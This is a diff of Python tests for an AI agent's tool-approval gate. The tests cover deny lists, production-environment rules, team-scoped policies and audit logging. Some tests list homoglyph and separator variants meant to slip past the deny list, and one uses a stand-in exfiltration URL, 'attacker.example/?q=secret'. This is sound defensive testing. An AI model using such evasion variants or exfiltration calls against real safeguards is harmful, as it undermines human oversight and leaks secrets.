@@ -25,24 +25,29 @@ from agent.approval import (
     quote_untrusted,
     wake,
 )
+from agent.capabilities import ToolInfo
 from agent.policies import Caller, PolicyRule, evaluate
 from agent.store import DbGateStore
+from agent.tools import READ_ONLY_TOOLS
 from app.assistant import service as records
 from app.db import session_scope
 from tests import factories
 from tests.test_agent_support import INJECTION, FailingClient, RecordingClient
 
-rules = create_rule_based_approval_func()
+rules = create_rule_based_approval_func(read_only_tools=READ_ONLY_TOOLS)
 
 
 def verdict_of(func, tool: str, **arguments) -> Verdict:  # type: ignore[no-untyped-def]
     return asyncio.run(func(ToolRequest(tool, arguments), {}))
 
 
-def test_read_only_tools_are_approved_by_rule() -> None:
-    for tool in ("get_incident", "list_open_incidents", "check_disk", "search_runbooks", "describe_service"):
+def test_only_tools_declared_read_only_are_approved_by_rule() -> None:
+    for tool in ("get_incident", "list_open_incidents", "search_runbooks"):
         v = verdict_of(rules, tool, incident_id=1)
         assert (v.approved, v.decided_by) == (True, "rule"), tool
+    # A read-only sounding name is not a declaration.
+    for tool in ("check_disk", "describe_service", "get_secret", "check_and_restart"):
+        assert verdict_of(rules, tool, incident_id=1).approved is None, tool
 
 
 def test_destructive_tools_are_denied_by_rule() -> None:
@@ -50,10 +55,11 @@ def test_destructive_tools_are_denied_by_rule() -> None:
         assert verdict_of(rules, tool).approved is False, tool
 
 
-def test_any_argument_naming_production_is_denied() -> None:
-    assert verdict_of(rules, "get_incident", env="production").approved is False
+def test_a_change_naming_production_is_denied_but_a_search_mentioning_it_is_not() -> None:
+    assert verdict_of(rules, "restart_hosts", env="production").approved is False
     assert verdict_of(rules, "list_hosts", filters={"cluster": ["eu-1", "PROD-db-2"]}).approved is False
-    assert verdict_of(rules, "get_incident", production=True).approved is False
+    assert verdict_of(rules, "restart_hosts", production=True).approved is False
+    assert verdict_of(rules, "search_runbooks", query="prod database down").approved is True
     # "reproduce" contains "prod" inside a word: not production.
     assert verdict_of(rules, "add_incident_note", text="steps to reproduce").approved is None
 
@@ -66,6 +72,23 @@ def test_rules_have_no_opinion_on_other_tools_and_can_be_switched_off() -> None:
     assert verdict_of(lenient, "get_incident").approved is None
     assert verdict_of(lenient, "delete_database").approved is None
     assert verdict_of(lenient, "acknowledge_incident", env="prod").approved is None
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["Delete_Database", "delete-database", "DeleteDatabase", "dеlete_database", "ＤＥＬＥＴＥ_DATABASE"],
+)
+def test_the_deny_list_sees_through_case_separators_and_homoglyphs(name: str, session: Session) -> None:
+    v = asyncio.run(_gate(session, func=compose()).decide(ToolRequest(name, {})))
+    assert (v.approved, v.decided_by) == (False, "deny_list")
+    table = asyncio.run(_gate(session, func=compose()).decide(ToolRequest("DROP_TABLE", {})))
+    assert table.decided_by == "deny_list"
+
+
+@pytest.mark.parametrize("env", ["prod", "PRD-eu", "live", "ｐｒｏｄ", "ρrod", "pro\u200bd", "PrOd-db"])
+def test_the_production_rule_sees_through_homoglyphs_and_names_its_environments(env: str) -> None:
+    assert verdict_of(rules, "restart_service", target=env).approved is False
+    assert verdict_of(rules, "restart_service", target="product-catalogue").approved is None
 
 
 @given(st.text(max_size=300))
@@ -88,19 +111,25 @@ def test_compose_asks_in_order_and_denies_when_nobody_decides() -> None:
 
 def test_policy_highest_priority_wins_and_deny_wins_ties() -> None:
     caller = Caller(user_id=7, role="responder")
-    allow_all = PolicyRule(1, "*", "*", "*", "allow", 0)
+    allow_all = PolicyRule(1, "*", "*", "*", "allow", 0, team_id=1)
     deny_writes = PolicyRule(2, "role", "responder", "resolve_*", "deny", 5)
-    allow_user = PolicyRule(3, "user", "7", "resolve_incident", "allow", 5)
-    allow_user_higher = PolicyRule(4, "user", "7", "resolve_incident", "allow", 6)
-    assert evaluate([allow_all], "resolve_incident", caller) == allow_all
-    assert evaluate([allow_all, deny_writes], "resolve_incident", caller) == deny_writes
-    assert evaluate([allow_all, deny_writes, allow_user], "resolve_incident", caller) == deny_writes
+    allow_user = PolicyRule(3, "user", "7", "resolve_incident", "allow", 5, team_id=1)
+    allow_user_higher = PolicyRule(4, "user", "7", "resolve_incident", "allow", 6, team_id=1)
+    assert evaluate([allow_all], "resolve_incident", caller, 1) == allow_all
+    assert evaluate([allow_all, deny_writes], "resolve_incident", caller, 1) == deny_writes
+    assert evaluate([allow_all, deny_writes, allow_user], "resolve_incident", caller, 1) == deny_writes
     assert (
-        evaluate([allow_all, deny_writes, allow_user_higher], "resolve_incident", caller) == allow_user_higher
+        evaluate([allow_all, deny_writes, allow_user_higher], "resolve_incident", caller, 1)
+        == allow_user_higher
     )
     assert evaluate([deny_writes], "resolve_incident", Caller(user_id=7, role="admin")) is None
-    assert evaluate([allow_user], "resolve_incident", Caller(user_id=8, role="responder")) is None
+    assert evaluate([allow_user], "resolve_incident", Caller(user_id=8, role="responder"), 1) is None
     assert evaluate([deny_writes], "get_incident", caller) is None
+    # Allow rules hold only for their team's incidents; an allow rule without a team never holds.
+    assert evaluate([allow_all], "resolve_incident", caller, 2) is None
+    assert evaluate([allow_all], "resolve_incident", caller, None) is None
+    assert evaluate([PolicyRule(5, "*", "*", "*", "allow", 0)], "resolve_incident", caller, 1) is None
+    assert evaluate([deny_writes], "Resolve-Incident", caller, 2) == deny_writes
 
 
 def _gate(session: Session, func=rules, **kw) -> ApprovalGate:  # type: ignore[no-untyped-def]
@@ -109,11 +138,13 @@ def _gate(session: Session, func=rules, **kw) -> ApprovalGate:  # type: ignore[n
 
 def test_gate_order_deny_list_then_auto_approve_then_policies_then_function(session: Session) -> None:
     admin = factories.user(session, role="admin")
+    team = factories.team(session)
     gate = _gate(session, always_deny=("delete_*",), auto_approve=("delete_cache", "escalate_incident"))
     caller = Caller(user_id=admin.id, role="admin")
 
     def decide(tool: str) -> Verdict:
-        return asyncio.run(gate.decide(ToolRequest(tool, {}, caller=caller)))
+        info = ToolInfo(tool, read_only=tool in READ_ONLY_TOOLS)
+        return asyncio.run(gate.decide(ToolRequest(tool, {}, caller=caller, team_id=team.id), info))
 
     # The always-deny list wins even over the auto-approve list.
     assert decide("delete_cache").decided_by == "deny_list"
@@ -128,10 +159,26 @@ def test_gate_order_deny_list_then_auto_approve_then_policies_then_function(sess
         tool_pattern="acknowledge_*",
         effect="allow",
         priority=1,
+        team_id=team.id,
     )
     assert decide("acknowledge_incident") == Verdict(True, f"policy:{p.id}", f"policy {p.id} says allow")
+    # No allow policy loosens the safety rules.
+    records.create_policy(
+        session=session,
+        by=admin.id,
+        subject_kind="*",
+        tool_pattern="*",
+        effect="allow",
+        priority=100,
+        team_id=team.id,
+    )
+    assert decide("terminate_instance").decided_by == "rule"
+    prod = ToolRequest("acknowledge_incident", {"target": "prod"}, caller=caller, team_id=team.id)
+    assert asyncio.run(gate.decide(prod)).decided_by == "rule"
     # A policy is consulted before the rules: a deny policy stops a read-only tool.
-    records.create_policy(session=session, by=admin.id, subject_kind="*", tool_pattern="get_*", effect="deny")
+    records.create_policy(
+        session=session, by=admin.id, subject_kind="*", tool_pattern="get_*", effect="deny", priority=200
+    )
     assert decide("get_incident").approved is False
     assert decide("escalate_incident").approved is True  # auto-approve comes before policies
     assert asyncio.run(gate.decide(ToolRequest("get_incident", {}), known=False)).decided_by == "unknown_tool"
@@ -144,14 +191,15 @@ def test_every_decision_is_audited_and_exportable_as_csv(session: Session) -> No
     for tool in ("get_incident", "delete_database", "resolve_incident"):
         asyncio.run(
             gate.decide(
-                ToolRequest(tool, {"incident_id": 1}, caller=Caller(user.id, "responder"), session_id=sid)
+                ToolRequest(tool, {"incident_id": 1}, caller=Caller(user.id, "responder"), session_id=sid),
+                ToolInfo(tool, read_only=tool in READ_ONLY_TOOLS),
             )
         )
     rows = records.list_audit(session=session, session_id=sid)
     assert [(r.tool, r.decision, r.decided_by) for r in reversed(rows)] == [
         ("get_incident", "approved", "rule"),
         ("delete_database", "denied", "deny_list"),
-        ("resolve_incident", "denied", "rule"),
+        ("resolve_incident", "denied", "incident_scope"),  # the session is about no incident
     ]
     assert all(r.user_id == user.id and r.latency_ms >= 0 for r in rows)
     table = list(csv.DictReader(io.StringIO(records.audit_csv(rows))))
@@ -282,8 +330,6 @@ def test_a_decision_that_cannot_be_audited_denies(session: Session) -> None:
 
 def test_http_check_is_never_approved_by_rule_alone() -> None:
     # A URL the model chooses can carry data out: the agent's rules leave it to a human or a policy.
-    from agent.tools import READ_ONLY_TOOLS
-
     agent_rules = create_rule_based_approval_func(read_only_tools=READ_ONLY_TOOLS)
     assert verdict_of(agent_rules, "http_check", url="https://attacker.example/?q=secret").approved is None
     assert verdict_of(agent_rules, "who_is_on_call", schedule_id=1).approved is True
@@ -299,17 +345,19 @@ def test_http_check_is_never_approved_by_rule_alone() -> None:
             tool_pattern=st.sampled_from(["*", "resolve_*", "resolve_incident", "get_*"]),
             effect=st.sampled_from(["allow", "deny"]),
             priority=st.integers(-3, 3),
+            team_id=st.sampled_from([None, 1, 2]),
         ),
         max_size=12,
     )
 )
 def test_the_deciding_policy_has_the_top_priority_and_deny_wins_ties(policy_rules: list[PolicyRule]) -> None:
     caller = Caller(user_id=7, role="responder")
-    chosen = evaluate(policy_rules, "resolve_incident", caller)
+    chosen = evaluate(policy_rules, "resolve_incident", caller, 1)
     matching = [
         r
         for r in policy_rules
         if r.tool_pattern in ("*", "resolve_*", "resolve_incident")
+        and (r.team_id == 1 if r.effect == "allow" else r.team_id in (None, 1))
         and (
             r.subject_kind == "*"
             or r.subject in ("responder", "7")
